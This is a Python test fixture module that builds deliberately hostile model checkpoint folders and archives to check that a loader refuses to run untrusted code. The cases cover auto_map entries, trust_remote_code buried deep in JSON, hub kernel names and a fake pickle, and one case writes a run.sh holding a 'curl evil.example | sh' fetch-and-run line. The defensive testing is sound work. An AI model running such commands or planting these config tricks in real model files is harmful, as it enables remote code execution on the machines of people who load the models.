"""Archives built in memory for upload tests (valid and deliberately hostile), and hostile checkpoint folders."""
import io
import json
import tarfile
import zipfile


def tar_archive(files: dict[str, bytes], extra: tuple[tarfile.TarInfo, ...] = (), mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for info in extra:
            tar.addfile(info, io.BytesIO(bytes(info.size)) if info.size else None)
    return buf.getvalue()


def zip_archive(files: dict[str, bytes], extra: tuple[tuple[zipfile.ZipInfo, bytes], ...] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        for info, data in extra:
            zf.writestr(info, data)
    return buf.getvalue()


# --- hostile checkpoint folders (issue 14): each tries to make a loader run the author's code --------------------

# The code an author would like run: it leaves a marker file, so a test can tell whether it ran.
def evil_module(marker: str) -> bytes:
    return (f"import pathlib\npathlib.Path({marker!r}).write_text('the checkpoint ran code')\n"
            f"class EvilModel: pass\nclass EvilTokenizer: pass\nclass EvilConfig: pass\n").encode()


def _json(value) -> bytes:
    return json.dumps(value).encode()


def _edit_json(files: dict[str, bytes], name: str, **changes) -> dict[str, bytes]:
    value = json.loads(files[name]) if name in files else {}
    value.update(changes)
    return {**files, name: _json(value)}


def clip_tokenizer_kwargs_attack(clip_files: dict[str, bytes], marker: str) -> dict[str, bytes]:
    """The issue's case: text_cfg.tokenizer_kwargs {"trust_remote_code": true} with hf_tokenizer_name set, a
    tokenizer.json, a tokenizer_config.json and config.json with auto_map, and the .py they name."""
    raw = json.loads(clip_files["open_clip_config.json"])
    raw["model_cfg"]["text_cfg"].update(hf_tokenizer_name="evil/tokenizer",
                                        tokenizer_kwargs={"trust_remote_code": True})
    auto_map = {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None], "AutoConfig": "tokenization_evil.EvilConfig"}
    return {**clip_files, "open_clip_config.json": _json(raw),
            "tokenizer.json": _json({"version": "1.0", "model": {"type": "WordLevel", "vocab": {"a": 0}}}),
            "tokenizer_config.json": _json({"tokenizer_class": "EvilTokenizer", "auto_map": auto_map}),
            "config.json": _json({"model_type": "evil", "auto_map": auto_map}),
            "tokenization_evil.py": evil_module(marker)}


def _deep(key: str, value, depth: int = 6):
    """{"a": {"b": [{"c": …{key: value}}]}}: a key hidden deep inside an ordinary-looking JSON file."""
    node = {key: value}
    for i in range(depth):
        node = [node] if i % 2 else {f"level{i}": node}
    return node


def hostile_causal_lm_cases(marker: str) -> dict[str, tuple[callable, str]]:
    """name → (spoil(model files) → files, the reason the refusal must name) for a causal-lm folder."""
    auto_map = {"AutoModelForCausalLM": "modeling_evil.EvilModel", "AutoConfig": "modeling_evil.EvilConfig"}
    return {
        "auto_map-in-config.json": (lambda f: {**_edit_json(f, "config.json", auto_map=auto_map),
                                               "modeling_evil.py": evil_module(marker)}, "modeling_evil.py"),
        "auto_map-in-config.json-no-py": (lambda f: _edit_json(f, "config.json", auto_map=auto_map), "auto_map"),
        "auto_map-in-tokenizer_config.json": (
            lambda f: _edit_json(f, "tokenizer_config.json",
                                 auto_map={"AutoTokenizer": ["modeling_evil.EvilTokenizer", None]}), "auto_map"),
        "a-.py-file": (lambda f: {**f, "modeling_gpt2.py": evil_module(marker)}, "Python code"),
        "hub-kernel-attention": (lambda f: _edit_json(f, "config.json",
                                                      attn_implementation="kernels-community/flash-attn"),
                                 "kernels-community/flash-attn"),
        "hub-kernel-attention-private-key": (lambda f: _edit_json(f, "config.json",
                                                                  _attn_implementation="kernels-community/flash-attn"),
                                             "kernels from the hub are never loaded"),
        "trust_remote_code-nested-in-generation_config.json": (
            lambda f: _edit_json(f, "generation_config.json", extra=_deep("trust_remote_code", True)),
            "trust_remote_code"),
        "trust_remote_code-nested-in-tokenizer.json": (
            lambda f: _edit_json(f, "tokenizer.json", extra=_deep("trust_remote_code", True)), "trust_remote_code"),
        "custom_pipelines": (lambda f: _edit_json(f, "config.json", custom_pipelines={"x": {"impl": "evil.Pipe"}}),
                             "custom_pipelines"),
        "unsupported-quantization": (lambda f: _edit_json(f, "config.json",
                                                          quantization_config={"quant_method": "mxfp4"}),
                                     "quantization_config"),
        "hub-experts-kernel": (lambda f: _edit_json(f, "config.json", experts_implementation="deepgemm"),
                               "deepgemm"),
        "a-pickle": (lambda f: {**f, "training_args.bin": b"\x80\x04\x95fake pickle"}, "pickle"),
        "an-unknown-file": (lambda f: {**f, "run.sh": b"#!/bin/sh\ncurl evil.example | sh\n"}, "run.sh"),
        "a-file-in-a-sub-folder": (lambda f: {**f, "extra/notes.json": b"{}"}, "extra/notes.json"),
    }


def hostile_clip_cases(marker: str) -> dict[str, tuple[callable, str]]:
    """name → (spoil(clip files) → files, reason) for an open_clip folder."""
    def text_cfg(files, **changes):
        raw = json.loads(files["open_clip_config.json"])
        raw["model_cfg"]["text_cfg"].update(changes)
        return {**files, "open_clip_config.json": _json(raw)}

    return {
        "tokenizer_kwargs-trust_remote_code-with-code": (lambda f: clip_tokenizer_kwargs_attack(f, marker),
                                                         "tokenization_evil.py"),
        "tokenizer_kwargs-trust_remote_code": (
            lambda f: {k: v for k, v in clip_tokenizer_kwargs_attack(f, marker).items()
                       if k not in ("tokenization_evil.py", "config.json", "tokenizer_config.json")},
            "text_cfg.tokenizer_kwargs.trust_remote_code"),
        "tokenizer_kwargs-revision": (lambda f: text_cfg(f, tokenizer_kwargs={"revision": "main"}),
                                      "'revision' is refused"),
        "hf_tokenizer_name-not-shipped": (lambda f: text_cfg(f, hf_tokenizer_name="evil/tokenizer"),
                                          "never fetched by name"),
        "hf_model_name-not-shipped": (lambda f: text_cfg(f, hf_model_name="evil/text-tower"),
                                      "never fetched by name"),
        "auto_map-in-open_clip_config.json": (
            lambda f: _edit_json(f, "open_clip_config.json", auto_map={"AutoModel": "evil.Model"}), "auto_map"),
        "unknown-text_cfg-field": (lambda f: text_cfg(f, code_revision="abc"), "text_cfg.code_revision"),
        "norm_kwargs-beyond-eps": (lambda f: text_cfg(f, norm_kwargs={"eps": 1e-5, "device": "cuda"}),
                                   "'device' is refused"),
        "timm-hub-name": (lambda f: _edit_json(f, "open_clip_config.json", model_cfg={
            **json.loads(f["open_clip_config.json"])["model_cfg"],
            "vision_cfg": {"timm_model_name": "hf-hub:evil/model", "image_size": 32}}), "timm_model_name"),
        "a-.py-file": (lambda f: {**f, "open_clip_model.py": evil_module(marker)}, "Python code"),
        "trust_remote_code-nested": (
            lambda f: _edit_json(f, "open_clip_config.json",
                                 preprocess_cfg={"mean": [0.5, 0.5, 0.5], "extra": _deep("trust_remote_code", True)}),
            "trust_remote_code"),
    }


def deep_json(depth: int = 100_000) -> bytes:
    return b"[" * depth + b"]" * depth
